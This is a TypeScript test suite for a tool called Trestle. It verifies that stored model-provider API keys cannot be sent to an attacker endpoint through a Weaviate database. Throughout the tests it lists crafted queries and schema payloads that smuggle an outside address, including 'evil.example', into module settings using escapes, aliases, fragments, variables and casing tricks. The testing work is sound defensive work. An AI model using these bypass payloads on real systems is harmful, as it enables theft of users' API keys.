import { randomUUID } from 'node:crypto';
import { globSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  type Caller,
  type Core,
  createCore,
  newConnectionDraft,
  type PendingApproval,
  type UserAnswer,
} from '@trestle/core';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { startWeaviate, type WeaviateServer } from '../../scripts/weaviate/server.ts';
import { type ProviderEndpoint, startProviderEndpoint } from './provider-endpoint.ts';
import { describeOnWeaviate } from './servers.ts';

const dist = join(import.meta.dirname, '..', '..', 'dist');
const key = `sk-${randomUUID()}`;
const apiKey = `wv-${randomUUID()}`;

const client: Caller = {
  kind: 'client',
  token: { kind: 'user', id: 't', name: 'T', permission: 'fullAccess', allowlist: null },
  clientName: 'a client',
  process: null,
};
const person: Caller = { kind: 'person' };

const providers = [
  'OpenAI',
  'Cohere',
  'Mistral',
  'Anthropic',
  'Nvidia',
  'Xai',
  'Deepseek',
  'VoyageAI',
  'JinaAI',
];

describeOnWeaviate('stored keys of model providers', ({ binary, version }) => {
  const home = mkdtempSync(join(tmpdir(), 'trestle-keys-'));
  let server: WeaviateServer;
  let thief: ProviderEndpoint;
  let core: Core;
  let connectionId: string;
  let answer: UserAnswer | null = null;
  let questions: PendingApproval[] = [];

  const text = { name: 'title', dataType: ['text'] };

  async function rest(method: string, path: string, body?: unknown): Promise<Response> {
    const sent = await fetch(`http://127.0.0.1:${server.port}/v1${path}`, {
      method,
      headers: { 'content-type': 'application/json', authorization: `Bearer ${apiKey}` },
      ...(body !== undefined && { body: JSON.stringify(body) }),
    });
    if (!sent.ok) throw new Error(`${method} ${path}: ${sent.status} ${await sent.text()}`);
    return sent;
  }

  beforeAll(async () => {
    thief = await startProviderEndpoint();
    server = await startWeaviate({
      binary,
      apiKey,
      environment: {
        ENABLE_API_BASED_MODULES: 'true',
        ENABLE_MODULES: 'ref2vec-centroid',
        ENABLE_EXPERIMENTAL_DYNAMIC_RAG_SYNTAX: 'true',
      },
    });
    const named = (module: string) => ({
      v: { vectorizer: { [module]: { baseURL: thief.url, properties: ['title'] } }, vectorIndexType: 'hnsw' },
    });
    for (const one of [
      { class: 'Plain', vectorizer: 'none' },
      {
        class: 'Bad',
        vectorizer: 'text2vec-openai',
        moduleConfig: { 'text2vec-openai': { baseURL: thief.url } },
      },
      { class: 'BadNamed', vectorConfig: named('text2vec-openai') },
      { class: 'BadOwn', vectorConfig: named('text2vec-weaviate') },
      {
        class: 'BadRerank',
        vectorizer: 'none',
        moduleConfig: { 'reranker-jinaai': { baseURL: thief.url } },
      },
      {
        class: 'BadGenerate',
        vectorizer: 'none',
        moduleConfig: { 'generative-openai': { baseURL: thief.url } },
      },
    ]) {
      await rest('POST', '/schema', { properties: [text], ...one });
      const given = one.vectorConfig ? { vectors: { v: [1, 0, 0] } } : { vector: [1, 0, 0] };
      await rest('POST', '/objects', {
        class: one.class,
        id: randomUUID(),
        properties: { title: 'a' },
        ...given,
      });
    }
    core = await createCore({
      home,
      hostEntry: join(dist, 'driver-host.js'),
      bundledDrivers: [],
      secretStore: 'file',
    });
    const [plugin = ''] = globSync(join(dist, 'plugins', 'weaviate-*.tgz'));
    await core.drivers.installFromFile(plugin, { signal: new AbortController().signal });
    const draft = newConnectionDraft(core.drivers.get('weaviate')!);
    const connection = await core.connections.create({
      ...draft,
      name: 'W',
      fields: {
        ...draft.fields,
        host: '127.0.0.1',
        port: server.port,
        authMethod: 'apiKey',
        apiKey,
        providerKeys: providers.map((name) => ({ name: `X-${name}-Api-Key`, value: key })),
      },
      externalClients: 'readWrite',
      aiPolicy: 'alwaysAllow',
    });
    connectionId = connection.id;
    core.events.on((event) => {
      if (event.type !== 'approvalsChanged' || answer === null) return;
      for (const one of core.approvals.pending()) {
        questions.push(one);
        core.approvals.answer(one.id, answer);
      }
    });
  });

  beforeEach(() => {
    thief.seen.length = 0;
    questions = [];
    answer = null;
    core.approvals.setPresence('none');
    for (const { id } of core.approvals.granted()) core.approvals.withdraw(id);
  });

  afterAll(async () => {
    await core?.close();
    rmSync(home, { recursive: true, force: true });
    await server?.stop();
    await thief?.close();
  });

  const access = (caller: Caller) => ({ caller, connectionId, signal: new AbortController().signal });
  const run = (statement: string, caller: Caller = client) =>
    core.data.runQuery(access(caller), { text: statement, limit: 10 });
  const tried = (statement: string) =>
    run(statement).then(
      (outcome) => ({ code: 'ran', text: JSON.stringify(outcome) }),
      (error: { code: string; message: string }) => ({ code: error.code, text: error.message }),
    );
  const expectNoKey = () => {
    expect(thief.seen.filter((one) => one.includes(key) || one.includes(apiKey))).toEqual([]);
  };
  const answering = (how: UserAnswer) => {
    answer = how;
    core.approvals.setPresence('window');
  };

  describe('a query that names an address is refused before it is sent', () => {
    const get = (inner: string) =>
      `{ Get { Plain { title _additional { ${inner} { singleResult error } } } } }`;
    const single = (provider: string, given: string) =>
      get(`generate(singleResult: {prompt: "hi", ${provider}: {${given}}})`);
    const url = () => JSON.stringify(thief.url);
    const carried = (query: string, variables: unknown) =>
      `POST /graphql ${JSON.stringify({ query, variables })}`;

    test.each(['openai', 'cohere', 'mistral', 'anthropic', 'nvidia', 'xai', 'deepseek', 'friendliai'])(
      'of %s',
      async (provider) => {
        expect(await tried(single(provider, `baseURL: ${url()}`))).toMatchObject({ code: 'refused' });
        expect(thief.seen).toEqual([]);
      },
    );

    test.each<[string, () => string]>([
      ['apiEndpoint', () => single('google', `apiEndpoint: ${url()}, projectId: "p"`)],
      ['a region that leads to a host', () => single('aws', 'region: "evil.example/", service: "bedrock"')],
      ['resourceName', () => single('openai', 'resourceName: "evil", deploymentId: "d", isAzure: true')],
      ['grouped', () => get(`generate(groupedResult: {task: "hi", mistral: {baseURL: ${url()}}})`)],
      ['a block string', () => single('mistral', `baseURL: """${thief.url}"""`)],
      // Only the decoded value shows the address: the name of the setting is harmless.
      ['unicode escapes', () => single('mistral', `model: "\\u0068ttp:\\u002f\\u002f${thief.url.slice(7)}"`)],
      [
        'unicode escapes of JSON, in the name and the value',
        () =>
          carried(single('mistral', `baseURL: ${url()}`), null)
            .replace('baseURL', '\\u0062aseURL')
            .replace('http:', '\\u0068ttp:'),
      ],
      ['a byte order mark before the query', () => `\ufeff${single('mistral', `baseURL: ${url()}`)}`],
      ['an enum as a value', () => single('openai', 'region: evil')],
      ['a number as an address', () => single('mistral', 'baseURL: 2130706433')],
      [
        'duplicate arguments, the last one harmless',
        () =>
          get(
            `generate(singleResult: {prompt: "hi", mistral: {baseURL: ${url()}}}, singleResult: {prompt: "hi"})`,
          ),
      ],
      [
        'duplicate members, the first one harmless',
        () =>
          get(`generate(singleResult: {prompt: "hi", mistral: {model: "m"}, mistral: {baseURL: ${url()}}})`),
      ],
      [
        'in the hits of a group',
        () =>
          `{ Get { Plain(nearVector: {vector: [1, 0, 0]}, groupBy: {path: ["title"], groups: 1, objectsPerGroup: 1}) { _additional { group { hits { _additional { generate(singleResult: {prompt: "hi", mistral: {baseURL: ${url()}}}) { error } } } } } } } }`,
      ],
      [
        'under an alias that looks like a plain member',
        () => get(`id: generate(singleResult: {prompt: "hi", mistral: {baseURL: ${url()}}})`),
      ],
      [
        'skipped',
        () => get(`generate(singleResult: {prompt: "hi", mistral: {baseURL: ${url()}}}) @skip(if: false)`),
      ],
      ['images from an address', () => single('openai', `images: [${url()}]`)],
      ['an address of a module without a key', () => single('ollama', `apiEndpoint: ${url()}, model: "m"`)],
      ['odd whitespace and commas', () => single('mistral', `,,\n\r\t baseURL ,:\n\n${url()},,`)],
      ['a comment between', () => single('mistral', `baseURL # model\n: ${url()}`)],
      ['in a list', () => get(`generate(singleResult: [{prompt: "hi", mistral: [{baseURL: ${url()}}]}])`)],
      ['a model as an address', () => single('mistral', `model: ${url()}`)],
      ['another case', () => single('mistral', `baseurl: ${url()}`)],
      ['an unknown provider', () => single('evil', 'model: "m"')],
      [
        'an alias',
        () =>
          single('mistral', `baseURL: ${url()}`)
            .replace('Plain', 'x: Plain')
            .replace('_additional', 'y: _additional')
            .replace('generate', 'z: generate'),
      ],
      [
        'a fragment',
        () =>
          `query { Get { ...a } } fragment a on GetObjectsObj { Plain { ...b } } fragment b on Plain { _additional { ...c } } fragment c on PlainAdditional { generate(singleResult: {prompt: "p", mistral: {baseURL: ${url()}}}) { error } }`,
      ],
      [
        'a directive',
        () => get(`generate(singleResult: {prompt: "hi", mistral: {baseURL: ${url()}}}) @include(if: true)`),
      ],
      [
        'a variable with the address',
        () => carried(`query($u: String!) ${single('mistral', 'baseURL: $u')}`, { u: thief.url }),
      ],
      [
        'a variable with the whole object',
        () =>
          carried(`query($m: Any) ${get('generate(singleResult: {prompt: "hi", mistral: $m})')}`, {
            m: { baseURL: thief.url },
          }),
      ],
      [
        'a variable for the whole argument, in another case',
        () =>
          carried(`query($s: Any) ${get('generate(singleResult: $s)')}`, {
            S: { prompt: 'hi', mistral: { baseURL: thief.url } },
          }),
      ],
      ['a default value', () => `query($m: String = ${url()}) ${single('mistral', 'model: $m')}`],
      [
        'by the method in lower case',
        () => carried(single('mistral', `baseURL: ${url()}`), null).replace('POST', 'post'),
      ],
      [
        'with the key QUERY',
        () => `POST /v1/graphql/ ${JSON.stringify({ QUERY: single('mistral', `baseURL: ${url()}`) })}`,
      ],
      [
        'over Connect',
        () =>
          `POST /grpc-web/weaviate.v1.Weaviate/Search ${JSON.stringify({ collection: 'Plain', generative: { single: { prompt: 'hi', queries: [{ mistral: { baseUrl: thief.url } }] } }, uses127Api: true })}`,
      ],
    ])('%s', async (_how, statement) => {
      const { code } = await tried(statement());
      expect(['refused', 'query_failed', 'above_ceiling']).toContain(code);
      expect(thief.seen).toEqual([]);
    });

    test('the user may do it: the window runs it, and the key goes along', async () => {
      if (version.startsWith('1.27')) return;
      await run(single('mistral', `baseURL: ${url()}`), person);
      expect(thief.seen.join()).toContain(key);
    });
  });

  describe('a collection whose settings name an address', () => {
    const vectorSearch = (table: string, caller: Caller = client, more = {}) =>
      core.data.search(access(caller), {
        ...{ table, mode: 'near_text' as const, text: 'x', filters: [], match: 'all' as const, limit: 3 },
        ...more,
      });
    const insert = async (table: string, caller: Caller = client, isProgram = false) => {
      const changes = [{ kind: 'insert' as const, id: '1', values: { title: 'hello' } }];
      for await (const _ of core.data.applyChanges({ ...access(caller), isProgram }, { table, changes }));
    };

    test.each<[string, () => Promise<unknown>]>([
      ['a search', () => vectorSearch('Bad')],
      ['a search by a named vector', () => vectorSearch('BadNamed')],
      ['a hybrid search', () => vectorSearch('Bad', client, { mode: 'hybrid' })],
      [
        'a search that is reranked',
        () => vectorSearch('BadRerank', client, { mode: 'keyword', text: 'a', rerank: { column: 'title' } }),
      ],
      ['an insert', () => insert('Bad')],
      ['an insert of a program', () => insert('Bad', person, true)],
      ['an insert where the API key of Weaviate would go', () => insert('BadOwn')],
      ['a query', () => run('{ Get { Bad(nearText: {concepts: ["a"]}) { title } } }')],
      ['a hybrid query', () => run('{ Get { BadNamed(hybrid: {query: "a"}) { title } } }')],
      [
        'an aggregate',
        () => run('{ Aggregate { Bad(nearText: {concepts: ["a"]}, objectLimit: 3) { meta { count } } } }'),
      ],
      [
        'a generate',
        () =>
          run('{ Get { BadGenerate { _additional { generate(singleResult: {prompt: "a"}) { error } } } } }'),
      ],
      [
        'a rerank',
        () =>
          run('{ Get { BadRerank { _additional { rerank(property: "title", query: "a") { score } } } } }'),
      ],
      ['an object', () => run('POST /objects {"class":"Bad","properties":{"title":"a"}}')],
      ['an object in lower case', () => run('POST /objects {"CLASS":"bad","properties":{"title":"a"}}')],
      [
        'an object where the API key would go',
        () => run('POST /objects {"class":"BadOwn","properties":{"title":"a"}}'),
      ],
      [
        'a batch',
        () =>
          run(
            'POST /batch/objects {"objects":[{"class":"Plain","properties":{}},{"Class":"bad","properties":{"title":"a"}}]}',
          ),
      ],
      [
        'a replaced object',
        () => run(`PUT /objects/Bad/${randomUUID()} {"class":"Bad","properties":{"title":"a"}}`),
      ],
    ])('%s of a client is refused if nobody can be asked, and nothing is sent', async (_what, work) => {
      await expect(work()).rejects.toMatchObject({ code: 'endpoint_unapproved' });
      expect(thief.seen).toEqual([]);
    });

    test('the user is asked once, with the address and the names of the keys; the approval is listed and can be withdrawn', async () => {
      answering('allow');
      await insert('Bad');
      expect(thief.seen.join()).toContain(key);
      expect(questions).toMatchObject([
        {
          kind: 'endpoint',
          table: 'Bad',
          endpoints: [{ setting: 'moduleconfig.text2vec-openai.baseurl', value: thief.url }],
          keys: expect.arrayContaining(['x-openai-api-key']),
        },
      ]);
      expect(JSON.stringify(questions)).not.toContain(key);
      await vectorSearch('Bad');
      await run('{ Get { Bad(nearText: {concepts: ["a"]}) { title } } }');
      expect(questions).toHaveLength(1);
      const [granted] = core.approvals.granted();
      expect(granted).toMatchObject({ endpoint: { table: 'Bad', value: thief.url } });
      core.approvals.withdraw(granted!.id);
      answering('refuse');
      thief.seen.length = 0;
      await expect(vectorSearch('Bad')).rejects.toMatchObject({ code: 'endpoint_unapproved' });
      expect(thief.seen).toEqual([]);
    });

    test('the window of the user is not asked', async () => {
      await insert('BadNamed', person);
      await vectorSearch('BadNamed', person);
      expect(thief.seen).toHaveLength(2);
      expect(thief.seen.every((one) => one.includes(key))).toBe(true);
    });

    test('requests that call no module never carry keys, and need no approval', async () => {
      await run('{ Get { Bad(limit: 1) { title } } }');
      await run('{ Get { Bad(nearVector: {vector: [1, 0, 0]}) { title } } }');
      await run('GET /schema');
      await core.data.browse(access(client), {
        table: 'Bad',
        filters: [],
        match: 'all',
        sort: [],
        limit: 5,
        offset: 0,
      });
      await insert('Plain');
      expectNoKey();
    });
  });

  describe('a client cannot bring in an address', () => {
    const evil = (part: object) => ({
      class: `Evil${randomUUID().slice(0, 8)}`,
      properties: [text],
      ...part,
    });
    const bad = () => ({ baseURL: thief.url });
    test.each<[string, () => string]>([
      [
        'moduleConfig',
        () =>
          `POST /schema ${JSON.stringify(evil({ vectorizer: 'text2vec-openai', moduleConfig: { 'text2vec-openai': bad() } }))}`,
      ],
      [
        'in another case',
        () =>
          `POST /v1/schema ${JSON.stringify(evil({ vectorizer: 'text2vec-openai', MODULECONFIG: { 'text2vec-openai': bad() } }))}`,
      ],
      [
        'vectorConfig',
        () =>
          `POST /schema ${JSON.stringify(evil({ vectorConfig: { v: { Vectorizer: { 'text2vec-openai': bad() } } } }))}`,
      ],
      [
        'a reranker',
        () => `POST /schema ${JSON.stringify(evil({ moduleConfig: { 'reranker-cohere': bad() } }))}`,
      ],
      [
        'a generative module',
        () => `POST /schema ${JSON.stringify(evil({ moduleConfig: { 'generative-openai': bad() } }))}`,
      ],
      [
        'a property',
        () =>
          `POST /schema/Plain/properties ${JSON.stringify({ name: 'p', dataType: ['text'], moduleConfig: { 'text2vec-openai': bad() } })}`,
      ],
      [
        'Azure',
        () =>
          `POST /schema ${JSON.stringify(evil({ moduleConfig: { 'generative-openai': { resourceName: 'evil', deploymentId: 'd' } } }))}`,
      ],
      [
        'the module that passes the API key on',
        () =>
          `POST /schema ${JSON.stringify(evil({ vectorConfig: { v: { vectorizer: { 'text2vec-weaviate': bad() } } } }))}`,
      ],
      [
        'morph, which gets the key of OpenAI',
        () =>
          `POST /schema ${JSON.stringify(evil({ vectorizer: 'text2vec-morph', moduleConfig: { 'text2vec-morph': { baseURL: 'https://api.morphllm.com' } } }))}`,
      ],
    ])('%s', async (_how, statement) => {
      expect(await tried(statement())).toMatchObject({ code: 'endpoint_unapproved' });
      const schema = await (await rest('GET', '/schema')).text();
      expect(schema).not.toContain('"class":"Evil');
    });

    test('with the address of a provider itself, a collection is created unasked', async () => {
      const name = `Fine${randomUUID().slice(0, 8)}`;
      const moduleConfig = {
        'text2vec-openai': { baseURL: 'https://api.openai.com', model: 'text-embedding-3-small' },
      };
      await run(
        `POST /schema ${JSON.stringify({ class: name, vectorizer: 'text2vec-openai', moduleConfig, properties: [text] })}`,
      );
      await rest('DELETE', `/schema/${name}`);
    });

    test('a program that copies a collection with an address is refused', async () => {
      const definition = JSON.stringify({
        class: 'Bad',
        properties: [text],
        vectorizer: 'text2vec-openai',
        moduleConfig: { 'text2vec-openai': bad() },
      });
      const made = core.data.createTable(
        { ...access(person), isProgram: true },
        { name: 'BadCopy', definition },
      );
      await expect(made).rejects.toMatchObject({ code: 'endpoint_unapproved' });
    });

    test('objects that create a collection bring no settings in', async () => {
      const name = `Auto${randomUUID().slice(0, 8)}`;
      await tried(
        `POST /objects ${JSON.stringify({ class: name, properties: { title: 'a' }, moduleConfig: { 'text2vec-openai': bad() }, vectorizer: 'text2vec-openai' })}`,
      );
      const schema = await (await rest('GET', '/schema')).text();
      expect(schema.split(name).slice(1).join()).not.toContain(`${thief.url.slice(7)}","model"`);
      expectNoKey();
      await fetch(`http://127.0.0.1:${server.port}/v1/schema/${name}`, {
        method: 'DELETE',
        headers: { authorization: `Bearer ${apiKey}` },
      });
    });
  });
});
